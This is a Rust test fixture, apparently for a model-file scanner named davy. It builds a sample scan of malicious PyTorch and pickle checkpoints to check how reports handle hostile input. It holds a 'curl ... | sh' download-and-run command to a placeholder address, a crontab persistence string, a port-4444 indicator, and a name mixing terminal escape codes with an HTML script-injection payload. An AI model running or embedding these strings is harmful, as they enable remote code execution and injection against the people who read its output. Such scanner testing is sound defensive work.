//! One scan with something of everything, and as much malice as fits in names and strings.

use davy_artifact::{
    Artifact, Call, Code, Deviation, Excerpt, Fact, Gap, Identity, Manner, Name, Quirk, Reading,
    Role, Route, Site, Tensor, Value, When, Why,
};
use davy_bytes::{Blame, Span, escape};
use davy_policy::{Policy, judge};
use davy_report::{Detail, Report};
use davy_rules::{
    Advice, Confidence, Finding, Indicates, Indicator, Rule, Severity, Tag, Tagged, Threat,
    advisories,
};
use davy_scan::{Fingerprinted, Scan, Scanned};

/// A name that clears a screen, turns text around, breaks lines, closes tags and starts links.
pub const HOSTILE: &str = "a\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gpj\u{9b}31m\r\n<img src=x onerror=alert(1)>](http://e) {0}";

pub static CALL: Rule = Rule {
    id: "sample-call",
    severity: Severity::Critical,
    confidence: Confidence::High,
    threat: Threat::CodeExecution,
    summary: "loading calls something that runs code or commands",
    remediation: "do not load this file; ask its publisher for one that holds only tensors, such \
                  as safetensors, or load it with `torch.load(..., weights_only=True)` in a sandbox",
    cwe: &[502, 94],
    atlas: &["AML.T0011.000", "AML.T0018"],
    since: "0.1.0",
    aliases: &["former-call"],
    source: "//! # Sample call\n//!\n//! Loading the file calls `os.system({..})` or its\n//! like.\n//!\n\
             //! ## What to do\n//!\n//! Do not load it.\nuse nothing;\n",
};

pub static HIDDEN: Rule = Rule {
    id: "sample-member",
    severity: Severity::Medium,
    confidence: Confidence::Low,
    threat: Threat::Evasion,
    summary: "a member that some readers do not see",
    remediation: "find out who wrote the archive, and why",
    cwe: &[436],
    atlas: &[],
    since: "0.1.0",
    aliases: &[],
    source: "",
};

/// The scan: a checkpoint that fails, one in part unread, one that passes, one that is not there.
pub fn scan() -> Scan {
    Scan {
        inputs: vec![checkpoint(), partial(), plain("models/bert.safetensors"), missing()],
        passed_over: vec![
            ("models/.git".into(), "history of version control".into()),
            (format!("models/{HOSTILE}"), "a link that leads out of the folder".into()),
        ],
        surveyed: true,
    }
}

/// Calls `check` with the report of `scan`, as if the sample's rules were all there are: snapshots
/// do not change with the catalogue.
pub fn with_report<T>(scan: &Scan, detail: Detail, check: impl FnOnce(&Report<'_>) -> T) -> T {
    let assumed = ["loader=keras:3.11.3".parse().unwrap()];
    let mut report = Report::new(scan, &judge(scan, &Policy::default()), detail).under(&assumed);
    report.rules = vec![&CALL, &HIDDEN];
    check(&report)
}

pub fn plain(path: &str) -> Scanned {
    let root = artifact(path, None, 4_096, "safetensors", Reading::default());
    Scanned { path: path.into(), artifacts: vec![root], findings: vec![], error: None }
}

fn missing() -> Scanned {
    Scanned {
        path: format!("models/{HOSTILE}.pt"),
        artifacts: vec![],
        findings: vec![],
        error: Some("no such file or directory".into()),
    }
}

fn checkpoint() -> Scanned {
    let path = "models/my model#1.pt";
    let (pickle, hostile) = (format!("{path}!archive/data.pkl"), format!("{path}!{HOSTILE}"));
    let mut root = artifact(path, None, 1_234_567, "zip", members());
    root.identities.push(Identity { format: "pytorch", reading: Reading::default() });
    let mut loaded = artifact(&pickle, Some(0), 321, "pickle", unpickling());
    loaded.role = Role::Loaded;
    let deeper = artifact(&format!("{hostile}!//host/x"), Some(2), 7, "pickle", Reading::default());
    let hostile_one = artifact(&hostile, Some(0), 50, "zip", Reading::default());
    let mut findings = vec![finding(&HIDDEN, path, Span::new(64, 30), Route::None)];
    findings.push(finding(&CALL, &pickle, Span::new(12, 9), opcode(7)));
    findings[0].finding.unassumed = Some(Severity::High);
    findings[1].finding.advisories = advice();
    findings[1].finding.tags = vec![
        Tagged { tag: Tag::DownloadAndRun, text: "curl -s http://203.0.113.7/x | sh".into() },
        Tagged { tag: Tag::Persistence, text: escape(&format!("crontab {HOSTILE}")) },
    ];
    let url = Indicator { kind: Indicates::Url, value: "http://203.0.113.7/x".into() };
    let address = Indicator { kind: Indicates::Address, value: "192.0.2.9:4444".into() };
    findings[1].finding.indicators = vec![url, address];
    findings.extend((0..1_244).map(|at| {
        let mut finding = finding(&CALL, &hostile, Span::new(at, 1), Route::Member(HOSTILE.into()));
        finding.finding.severity = Severity::High;
        finding.finding.evidence = escape(HOSTILE);
        finding.fingerprint = format!("{at:032x}");
        finding
    }));
    Scanned {
        path: path.into(),
        artifacts: vec![root, loaded, hostile_one, deeper],
        findings,
        error: None,
    }
}

fn partial() -> Scanned {
    let path = "models/notes.zip";
    let mut root = artifact(path, None, 20_000, "zip", Reading::default());
    root.gaps = vec![Gap::new(Span::new(0x40, 12_288), Why::Halted(Blame::Encrypted), "member")];
    let inner = format!("{path}!{HOSTILE}");
    let mut nested = artifact(&inner, Some(0), 9, "python", Reading::default());
    nested.gaps = vec![
        Gap::new(Span::new(0, 9), Why::Crashed, HOSTILE),
        Gap::new(Span::new(3, 6), Why::Unidentified, "bytes of no known format"),
    ];
    let low = finding(&HIDDEN, &inner, Span::new(0, 3), Route::Line(2));
    Scanned { path: path.into(), artifacts: vec![root, nested], findings: vec![low], error: None }
}

pub fn artifact(
    path: &str,
    parent: Option<usize>,
    size: u64,
    format: &'static str,
    reading: Reading,
) -> Artifact {
    Artifact {
        path: path.into(),
        size,
        sha256: parent.is_none().then_some([0xa5; 32]),
        role: Role::Present,
        parent,
        identities: vec![Identity { format, reading }],
        gaps: vec![],
    }
}

pub fn finding(rule: &'static Rule, artifact: &str, span: Span, route: Route) -> Fingerprinted {
    Fingerprinted {
        finding: Finding {
            message: "loading calls `os.system`, which runs a command that the file chooses, with \
                      the rights of whoever loads it"
                .into(),
            evidence: "os.system('curl -s http://203.0.113.7/x | sh')".into(),
            ..Finding::new(rule, artifact, &Site { span, route })
        },
        fingerprint: "00112233445566778899aabbccddeeff".into(),
    }
}

/// The first advisory that davy knows.
fn advice() -> Vec<Advice> {
    let advisory = &advisories()[0];
    vec![Advice { advisory, written_by: Some("3.8.0".into()) }]
}

fn opcode(index: u64) -> Route {
    Route::Opcode { stream: 0, index, name: "REDUCE" }
}

fn site(start: u64, route: Route) -> Site {
    Site { span: Span::new(start, 9), route }
}

fn members() -> Reading {
    let member = |name: &str, size, start| Fact::Member {
        name: name.into(),
        size,
        site: site(start, Route::Member(name.into())),
    };
    let mut reading = Reading::default();
    reading.fact(member("archive/data.pkl", 321, 64));
    reading.fact(member(HOSTILE, 50, 400));
    reading.deviation(Quirk::DuplicateName, Span::new(64, 30), Route::None, "`a` stands twice");
    reading
}

/// A function, as a reader lists it.
fn function() -> Fact {
    let code = Code {
        language: "Python 3.11 byte code".into(),
        name: HOSTILE.into(),
        parameters: vec!["x".into()],
        when: When::Used,
        listing: format!("def f(x):\n    os.system('id')  # {HOSTILE}\n    return x\n"),
        ..Code::default()
    };
    Fact::Code { code: Box::new(code), site: site(30, Route::None) }
}

fn unpickling() -> Reading {
    let text = |text: &str| Value::Text(Excerpt::whole(text));
    let call = |manner, kwargs| Call {
        callee: Value::Name(Name::new("os", "system")),
        args: vec![text("curl -s http://203.0.113.7/x | sh"), text(HOSTILE)],
        kwargs,
        manner,
    };
    let import =
        |name, spelled| Fact::Import { name, spelled, by: "GLOBAL", site: site(2, opcode(1)) };
    let facts = [
        import(Name::new("os", "system"), None),
        import(Name::new("subprocess", "Popen"), Some(Name::new("commands", HOSTILE))),
        Fact::Call { call: call(Manner::Called, vec![]), count: 1, site: site(12, opcode(7)) },
        Fact::Call {
            call: call(Manner::Through("map"), vec![(HOSTILE.into(), Value::None)]),
            count: 12,
            site: site(30, opcode(9)),
        },
        Fact::Assign {
            target: Value::Module("os".into()),
            key: text("environ"),
            value: Value::Bool(true),
            site: site(40, opcode(12)),
        },
        Fact::Reference {
            target: HOSTILE.into(),
            purpose: "external data",
            site: site(50, Route::None),
        },
        Fact::Tensor {
            tensor: Tensor {
                storage: HOSTILE.into(),
                dtype: "float32".into(),
                elements: 6,
                offset: -1,
                size: vec![2, 3],
                stride: vec![3, 1],
            },
            site: site(60, Route::Tensor(HOSTILE.into())),
        },
        function(),
    ];
    let mut reading = Reading::default();
    facts.into_iter().for_each(|fact| reading.fact(fact));
    let deviation = Deviation::new(Quirk::BytesAfterEnd, Span::new(300, 21), opcode(20), HOSTILE);
    reading.deviations.push(deviation);
    reading
}
